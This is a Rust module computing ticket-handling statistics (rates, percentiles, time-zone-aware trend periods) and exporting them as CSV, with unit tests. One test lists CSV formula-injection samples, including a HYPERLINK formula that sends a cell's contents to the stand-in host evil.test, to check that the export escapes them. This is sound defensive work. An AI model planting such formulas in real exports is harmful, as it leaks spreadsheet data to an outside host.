//! Statistics: what the figures mean (the pure part, here), how the database computes them
//! (`query`). The history to measure them on comes from `crate::seed`.
//!
//! Rounding: hours and the satisfaction average to 2 decimals, rates (0..1) to 4 decimals.
//! An empty denominator gives `null`, never a division error.

pub mod query;
pub mod rollup;
pub(crate) mod sql;

use std::collections::BTreeMap;

use chrono::{Datelike, Days, Months, NaiveDate, NaiveDateTime, Weekday};
use serde::Serialize;
use utoipa::ToSchema;

use crate::error::{AppError, AppResult};

/// Which tickets the figures are about: created in `[from, to)`, optionally one department
/// and one category. Bounds are naive UTC, as stored.
#[derive(Debug, Clone, Default)]
pub struct Filter {
    pub from: Option<NaiveDateTime>,
    pub to: Option<NaiveDateTime>,
    pub department_id: Option<String>,
    pub category_id: Option<String>,
}

crate::domain::named_enum! {
    /// What a breakdown groups by.
    pub enum GroupBy {
        Department => "department",
        Category => "category",
        Official => "official",
        Enterprise => "enterprise",
    }
}

crate::domain::named_enum! {
    /// The period of a trend's points.
    pub enum Interval {
        Day => "day",
        Week => "week",
        Month => "month",
    }
}

impl Interval {
    /// The first day of the period holding `day`; weeks start on Monday.
    pub fn start_of(self, day: NaiveDate) -> NaiveDate {
        match self {
            Interval::Day => day,
            Interval::Week => day.week(Weekday::Mon).first_day(),
            Interval::Month => day.with_day(1).unwrap_or(day),
        }
    }

    fn next(self, start: NaiveDate) -> Option<NaiveDate> {
        match self {
            Interval::Day => start.checked_add_days(Days::new(1)),
            Interval::Week => start.checked_add_days(Days::new(7)),
            Interval::Month => start.checked_add_months(Months::new(1)),
        }
    }
}

/// More periods than this is a request mistake (ten years of days), not a chart.
pub const MAX_PERIODS: usize = 3700;

/// The start dates of every period from the one holding `first` to the one holding `last`,
/// gaps included: a chart wants a point for every period, even an empty one.
pub fn periods(interval: Interval, first: NaiveDate, last: NaiveDate) -> AppResult<Vec<NaiveDate>> {
    let mut out = Vec::new();
    let mut start = interval.start_of(first);
    while start <= last {
        if out.len() == MAX_PERIODS {
            return Err(AppError::validation(
                "interval",
                format!(
                    "from..to spans more than {MAX_PERIODS} periods of a {}; narrow it or use a longer interval",
                    interval.as_str()
                ),
            ));
        }
        out.push(start);
        match interval.next(start) {
            Some(next) => start = next,
            None => break,
        }
    }
    Ok(out)
}

/// Each period as `[start, end)` in naive UTC, from local midnights in `tz`.
pub fn period_bounds(
    interval: Interval,
    starts: &[NaiveDate],
    tz: chrono_tz::Tz,
) -> Vec<(NaiveDateTime, NaiveDateTime)> {
    starts
        .iter()
        .map(|&start| {
            let end = interval.next(start).unwrap_or(start);
            (local_midnight_utc(start, tz), local_midnight_utc(end, tz))
        })
        .collect()
}

/// The UTC instant a local day starts; the earliest one when a DST change repeats midnight,
/// the first local time that exists when a change skips it.
pub fn local_midnight_utc(day: NaiveDate, tz: chrono_tz::Tz) -> NaiveDateTime {
    let local = day.and_hms_opt(0, 0, 0).unwrap_or_default();
    (0..96)
        .find_map(|quarter| {
            (local + chrono::Duration::minutes(15 * quarter))
                .and_local_timezone(tz)
                .earliest()
        })
        .map_or(local, |t| t.naive_utc())
}

pub fn local_day(t: NaiveDateTime, tz: chrono_tz::Tz) -> NaiveDate {
    t.and_utc().with_timezone(&tz).date_naive()
}

/// Linear interpolation between the order statistics around rank `p·(n−1)`, the definition of
/// PostgreSQL's `percentile_cont`: `lo` is the value at `floor(rank)` (0-based), `hi` the next.
pub fn interpolate(p: f64, n: i64, lo: f64, hi: Option<f64>) -> f64 {
    let rank = p * (n - 1) as f64;
    let frac = rank - rank.floor();
    lo + frac * (hi.unwrap_or(lo) - lo)
}

pub fn round_to(value: f64, decimals: i32) -> f64 {
    let scale = 10f64.powi(decimals);
    (value * scale).round() / scale
}

fn ratio(part: i64, whole: i64) -> Option<f64> {
    (whole > 0).then(|| round_to(part as f64 / whole as f64, 4))
}

fn hours(value: Option<f64>) -> Option<f64> {
    value.map(|v| round_to(v, 2))
}

/// The raw aggregates of one group, as the database returns them.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Aggregates {
    pub total: i64,
    /// submitted, assigned, in_progress, resolved, closed, cancelled, awaiting_enterprise.
    pub by_status: [i64; 7],
    /// Tickets with `resolved_at` set, and those of them resolved by `due_at`.
    pub timed: i64,
    pub on_time: i64,
    /// Tickets accepted by an official and not cancelled.
    pub responded: i64,
    pub first_response_hours: Option<f64>,
    pub resolution_hours: Option<f64>,
    pub median_hours: Option<f64>,
    pub p90_hours: Option<f64>,
    pub rated: i64,
    pub satisfaction: Option<f64>,
    pub ratings: [i64; 5],
    pub reopened: i64,
    pub ever_resolved: i64,
    pub overdue_open: i64,
    pub site_visits: i64,
    /// Tickets with an approved extension.
    pub extended: i64,
}

#[derive(Debug, Clone, Serialize, ToSchema, PartialEq, Eq)]
pub struct ByStatus {
    pub submitted: i64,
    pub assigned: i64,
    pub in_progress: i64,
    pub resolved: i64,
    pub closed: i64,
    pub cancelled: i64,
    pub awaiting_enterprise: i64,
}

#[derive(Debug, Clone, Serialize, ToSchema, PartialEq, Eq)]
pub struct Distribution {
    #[serde(rename = "1")]
    pub one: i64,
    #[serde(rename = "2")]
    pub two: i64,
    #[serde(rename = "3")]
    pub three: i64,
    #[serde(rename = "4")]
    pub four: i64,
    #[serde(rename = "5")]
    pub five: i64,
}

/// The figures administrators are judged by. Hours round to 2 decimals, rates to 4.
/// Named `Metrics` in the OpenAPI document, as clients know it.
#[derive(Debug, Clone, Serialize, ToSchema, PartialEq)]
#[schema(as = Metrics)]
pub struct Figures {
    pub total: i64,
    pub by_status: ByStatus,
    pub resolved: i64,
    pub closed: i64,
    pub cancelled: i64,
    /// (resolved + closed) / (total − cancelled)
    pub resolution_rate: Option<f64>,
    /// Among tickets with a resolution time, the share resolved at or before their final
    /// `due_at` (after pauses and approved extensions).
    pub on_time_rate: Option<f64>,
    /// Tickets an official accepted (responded to) / (total − cancelled).
    pub response_rate: Option<f64>,
    /// Mean of `accepted_at − created_at`.
    pub avg_first_response_hours: Option<f64>,
    /// Mean of `resolved_at − created_at` (the last resolution: a reopen clears it).
    pub avg_resolution_hours: Option<f64>,
    /// Median of `resolved_at − created_at`, interpolated like PostgreSQL's
    /// `percentile_cont`. From the rollups, each of the two order statistics around the rank
    /// is the mean of the resolution times in its histogram bucket (log scale, each bucket
    /// 1 % wide from 36 s up, one bucket under 36 s): exact when the times in that bucket are
    /// equal, otherwise within 1 % of the exact value (within 36 s under 0.01 h). Bounds
    /// that are not local day starts are answered from the tickets, exactly.
    pub median_resolution_hours: Option<f64>,
    /// The 90th percentile of `resolved_at − created_at`, taken as the median is.
    pub p90_resolution_hours: Option<f64>,
    /// Tickets the enterprise rated; auto-closed tickets are unrated.
    pub rated: i64,
    pub satisfaction_avg: Option<f64>,
    /// Ratings of 4 or 5 (satisfied, very satisfied) / rated.
    pub satisfaction_rate: Option<f64>,
    pub satisfaction_distribution: Distribution,
    /// Tickets reopened at least once / tickets ever resolved.
    pub reopen_rate: Option<f64>,
    /// Open tickets past `due_at` now, not counting those waiting for the enterprise.
    pub overdue_open: i64,
    /// Comments of kind `site_visit` on these tickets.
    pub site_visits: i64,
    /// Tickets with an approved extension (延期).
    pub extended: i64,
    /// extended / total.
    pub extension_rate: Option<f64>,
}

impl From<&Aggregates> for Figures {
    fn from(a: &Aggregates) -> Figures {
        let [
            submitted,
            assigned,
            in_progress,
            resolved,
            closed,
            cancelled,
            awaiting_enterprise,
        ] = a.by_status;
        let [one, two, three, four, five] = a.ratings;
        Figures {
            total: a.total,
            by_status: ByStatus {
                submitted,
                assigned,
                in_progress,
                resolved,
                closed,
                cancelled,
                awaiting_enterprise,
            },
            resolved,
            closed,
            cancelled,
            resolution_rate: ratio(resolved + closed, a.total - cancelled),
            on_time_rate: ratio(a.on_time, a.timed),
            response_rate: ratio(a.responded, a.total - cancelled),
            avg_first_response_hours: hours(a.first_response_hours),
            avg_resolution_hours: hours(a.resolution_hours),
            median_resolution_hours: hours(a.median_hours),
            p90_resolution_hours: hours(a.p90_hours),
            rated: a.rated,
            satisfaction_avg: hours(a.satisfaction),
            satisfaction_rate: ratio(four + five, a.rated),
            satisfaction_distribution: Distribution {
                one,
                two,
                three,
                four,
                five,
            },
            reopen_rate: ratio(a.reopened, a.ever_resolved),
            overdue_open: a.overdue_open,
            site_visits: a.site_visits,
            extended: a.extended,
            extension_rate: ratio(a.extended, a.total),
        }
    }
}

/// Tickets without a department or official are grouped under key `null` with this label.
pub const UNASSIGNED: &str = "unassigned";

#[derive(Debug, Clone, Serialize, ToSchema, PartialEq)]
pub struct BreakdownItem {
    /// The department, category, official or enterprise id; `null` for unassigned tickets.
    pub key: Option<String>,
    /// Its name, or `unassigned`.
    pub label: String,
    #[serde(flatten)]
    pub metrics: Figures,
}

#[derive(Debug, Clone, Serialize, ToSchema, PartialEq)]
pub struct Breakdown {
    /// Largest group first; the unassigned group last among equals.
    pub items: Vec<BreakdownItem>,
}

#[derive(Debug, Clone, Serialize, ToSchema, PartialEq, Eq)]
pub struct TrendPoint {
    /// The local date the period starts (weeks start on Monday).
    pub period_start: NaiveDate,
    /// Tickets created in the period.
    pub created: i64,
    /// Tickets of the filter whose (last) `resolved_at` falls in the period.
    pub resolved: i64,
    /// Tickets of the filter whose `closed_at` falls in the period.
    pub closed: i64,
}

#[derive(Debug, Clone, Serialize, ToSchema, PartialEq, Eq)]
pub struct Trend {
    /// Every period from `from` to `to`, empty ones included.
    pub items: Vec<TrendPoint>,
}

/// Sorts groups largest first, then by label, the unassigned group last among equals.
pub fn sort_items(items: &mut [BreakdownItem]) {
    items.sort_by(|a, b| {
        b.metrics
            .total
            .cmp(&a.metrics.total)
            .then(a.key.is_none().cmp(&b.key.is_none()))
            .then_with(|| a.label.cmp(&b.label))
            .then_with(|| a.key.cmp(&b.key))
    });
}

/// Counts per period index merged into the full, gap-free series.
pub fn fill_trend(starts: &[NaiveDate], counts: &BTreeMap<(usize, usize), i64>) -> Trend {
    let at = |i: usize, kind: usize| counts.get(&(i, kind)).copied().unwrap_or(0);
    Trend {
        items: starts
            .iter()
            .enumerate()
            .map(|(i, &period_start)| TrendPoint {
                period_start,
                created: at(i, 0),
                resolved: at(i, 1),
                closed: at(i, 2),
            })
            .collect(),
    }
}

const METRIC_COLUMNS: [&str; 31] = [
    "total",
    "status_submitted",
    "status_assigned",
    "status_in_progress",
    "status_resolved",
    "status_closed",
    "status_cancelled",
    "resolved",
    "closed",
    "cancelled",
    "resolution_rate",
    "on_time_rate",
    "avg_first_response_hours",
    "avg_resolution_hours",
    "median_resolution_hours",
    "p90_resolution_hours",
    "rated",
    "satisfaction_avg",
    "satisfaction_1",
    "satisfaction_2",
    "satisfaction_3",
    "satisfaction_4",
    "satisfaction_5",
    "reopen_rate",
    "overdue_open",
    "site_visits",
    "status_awaiting_enterprise",
    "extended",
    "extension_rate",
    "response_rate",
    "satisfaction_rate",
];

/// A CSV cell: numbers are written as they are, text is made safe for spreadsheets.
enum Cell {
    Number(String),
    Text(String),
}

/// OWASP's advice against formula injection: a text cell that a spreadsheet would read as a
/// formula (`=`, `+`, `-`, `@`, or a tab or CR it trims into one) gets a leading `'`, which
/// Excel and WPS show as text and do not display.
fn spreadsheet_text(text: String) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text
    }
}

impl Cell {
    fn into_field(self) -> String {
        match self {
            Cell::Number(n) => n,
            Cell::Text(t) => spreadsheet_text(t),
        }
    }
}

fn metric_cells(m: &Figures) -> Vec<Cell> {
    let n = |v: i64| Cell::Number(v.to_string());
    let f = |v: Option<f64>| Cell::Number(v.map(|v| v.to_string()).unwrap_or_default());
    let s = &m.by_status;
    let d = &m.satisfaction_distribution;
    vec![
        n(m.total),
        n(s.submitted),
        n(s.assigned),
        n(s.in_progress),
        n(s.resolved),
        n(s.closed),
        n(s.cancelled),
        n(m.resolved),
        n(m.closed),
        n(m.cancelled),
        f(m.resolution_rate),
        f(m.on_time_rate),
        f(m.avg_first_response_hours),
        f(m.avg_resolution_hours),
        f(m.median_resolution_hours),
        f(m.p90_resolution_hours),
        n(m.rated),
        f(m.satisfaction_avg),
        n(d.one),
        n(d.two),
        n(d.three),
        n(d.four),
        n(d.five),
        f(m.reopen_rate),
        n(m.overdue_open),
        n(m.site_visits),
        n(s.awaiting_enterprise),
        n(m.extended),
        f(m.extension_rate),
        f(m.response_rate),
        f(m.satisfaction_rate),
    ]
}

/// UTF-8 with a byte-order mark: spreadsheet programs then read Chinese names correctly.
fn write_csv(header: Vec<&str>, rows: Vec<Vec<Cell>>) -> AppResult<Vec<u8>> {
    let mut out = b"\xEF\xBB\xBF".to_vec();
    {
        let mut w = csv::Writer::from_writer(&mut out);
        w.write_record(&header).map_err(anyhow::Error::from)?;
        for row in rows {
            w.write_record(row.into_iter().map(Cell::into_field))
                .map_err(anyhow::Error::from)?;
        }
        w.flush().map_err(anyhow::Error::from)?;
    }
    Ok(out)
}

/// An empty cell stands for `null`.
pub fn summary_csv(m: &Figures) -> AppResult<Vec<u8>> {
    write_csv(METRIC_COLUMNS.to_vec(), vec![metric_cells(m)])
}

pub fn breakdown_csv(b: &Breakdown) -> AppResult<Vec<u8>> {
    let header = ["key", "label"].into_iter().chain(METRIC_COLUMNS).collect();
    let rows = b
        .items
        .iter()
        .map(|item| {
            let mut row = vec![
                Cell::Text(item.key.clone().unwrap_or_default()),
                Cell::Text(item.label.clone()),
            ];
            row.extend(metric_cells(&item.metrics));
            row
        })
        .collect();
    write_csv(header, rows)
}

pub fn trend_csv(t: &Trend) -> AppResult<Vec<u8>> {
    let rows = t
        .items
        .iter()
        .map(|p| {
            vec![
                Cell::Text(p.period_start.to_string()),
                Cell::Number(p.created.to_string()),
                Cell::Number(p.resolved.to_string()),
                Cell::Number(p.closed.to_string()),
            ]
        })
        .collect();
    write_csv(vec!["period_start", "created", "resolved", "closed"], rows)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The textbook definition, on an explicit sorted list.
    fn percentile(sorted: &[f64], p: f64) -> f64 {
        let rank = p * (sorted.len() - 1) as f64;
        let lo = rank.floor() as usize;
        interpolate(
            p,
            sorted.len() as i64,
            sorted[lo],
            sorted.get(lo + 1).copied(),
        )
    }

    #[test]
    fn percentiles_interpolate_like_percentile_cont() {
        let v = [2.0, 4.0, 10.0, 20.0, 192.0];
        assert_eq!(percentile(&v, 0.5), 10.0);
        assert!((percentile(&v, 0.9) - 123.2).abs() < 1e-9);
        assert_eq!(percentile(&[4.0, 192.0], 0.5), 98.0);
        assert!((percentile(&[4.0, 192.0], 0.9) - 173.2).abs() < 1e-9);
        assert_eq!(percentile(&[7.0], 0.9), 7.0);
        assert_eq!(interpolate(0.5, 1, 7.0, None), 7.0);
    }

    #[test]
    fn empty_sets_give_null_rates() {
        let m = Figures::from(&Aggregates::default());
        assert_eq!(m.total, 0);
        assert_eq!(m.resolution_rate, None);
        assert_eq!(m.on_time_rate, None);
        assert_eq!(m.reopen_rate, None);
        assert_eq!(m.satisfaction_avg, None);
        let all_cancelled = Aggregates {
            total: 2,
            by_status: [0, 0, 0, 0, 0, 2, 0],
            ..Aggregates::default()
        };
        assert_eq!(Figures::from(&all_cancelled).resolution_rate, None);
    }

    #[test]
    fn rates_and_rounding() {
        let a = Aggregates {
            total: 9,
            by_status: [1, 1, 0, 1, 4, 1, 1],
            timed: 3,
            extended: 3,
            on_time: 2,
            responded: 6,
            first_response_hours: Some(7.0 / 6.0),
            rated: 3,
            ratings: [1, 0, 0, 1, 1],
            ..Aggregates::default()
        };
        let m = Figures::from(&a);
        // Responded over the uncancelled; ratings of 4 and 5 over the rated.
        assert_eq!(m.response_rate, Some(0.75));
        assert_eq!(m.satisfaction_rate, Some(0.6667));
        assert_eq!(m.resolution_rate, Some(0.625));
        assert_eq!(m.on_time_rate, Some(0.6667));
        assert_eq!(m.avg_first_response_hours, Some(1.17));
        assert_eq!(m.by_status.awaiting_enterprise, 1);
        assert_eq!(m.extension_rate, Some(0.3333));
    }

    #[test]
    fn weeks_start_on_monday_and_series_have_no_gaps() {
        let d = |s: &str| NaiveDate::parse_from_str(s, "%Y-%m-%d").unwrap();
        assert_eq!(Interval::Week.start_of(d("2027-03-07")), d("2027-03-01"));
        assert_eq!(Interval::Week.start_of(d("2027-03-01")), d("2027-03-01"));
        assert_eq!(Interval::Month.start_of(d("2027-03-31")), d("2027-03-01"));
        let days = periods(Interval::Day, d("2027-02-27"), d("2027-03-02")).unwrap();
        assert_eq!(days.len(), 4);
        assert_eq!(days[2], d("2027-03-01"));
        let months = periods(Interval::Month, d("2026-12-15"), d("2027-02-01")).unwrap();
        assert_eq!(
            months,
            vec![d("2026-12-01"), d("2027-01-01"), d("2027-02-01")]
        );
        assert!(periods(Interval::Day, d("2000-01-01"), d("2027-01-01")).is_err());
        let mut counts = BTreeMap::new();
        counts.insert((1, 0), 3);
        counts.insert((1, 2), 1);
        let t = fill_trend(&days, &counts);
        assert_eq!(t.items[0].created, 0);
        assert_eq!((t.items[1].created, t.items[1].closed), (3, 1));
    }

    #[test]
    fn local_days_follow_the_time_zone() {
        let tz: chrono_tz::Tz = "Asia/Shanghai".parse().unwrap();
        let day = NaiveDate::from_ymd_opt(2027, 3, 1).unwrap();
        let start = local_midnight_utc(day, tz);
        assert_eq!(start.to_string(), "2027-02-28 16:00:00");
        assert_eq!(local_day(start, tz), day);
    }

    #[test]
    fn csv_has_bom_header_and_empty_cells_for_null() {
        let bytes = summary_csv(&Figures::from(&Aggregates::default())).unwrap();
        assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        let mut lines = text.lines();
        assert!(lines.next().unwrap().starts_with("total,status_submitted,"));
        assert!(lines.next().unwrap().starts_with("0,0,0,0,0,0,0,0,0,0,,,"));
    }

    #[test]
    fn formula_like_text_cells_are_prefixed_and_numbers_are_not() {
        for evil in [
            "=HYPERLINK(\"http://evil.test/?d=\"&B2,\"Open\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
        ] {
            assert_eq!(Cell::Text(evil.into()).into_field(), format!("'{evil}"));
        }
        for plain in ["行政审批局", "A=B", " =1", "", "'quoted"] {
            assert_eq!(Cell::Text(plain.into()).into_field(), plain);
        }
        assert_eq!(Cell::Number("-1.5".into()).into_field(), "-1.5");
    }

    #[test]
    fn unassigned_sorts_last_among_equals() {
        let item = |key: Option<&str>, label: &str, total| BreakdownItem {
            key: key.map(str::to_owned),
            label: label.to_owned(),
            metrics: Figures::from(&Aggregates {
                total,
                ..Aggregates::default()
            }),
        };
        let mut items = vec![
            item(None, UNASSIGNED, 2),
            item(Some("b"), "B", 2),
            item(Some("a"), "A", 1),
        ];
        sort_items(&mut items);
        let keys: Vec<_> = items.iter().map(|i| i.key.as_deref()).collect();
        assert_eq!(keys, vec![Some("b"), None, Some("a")]);
    }
}
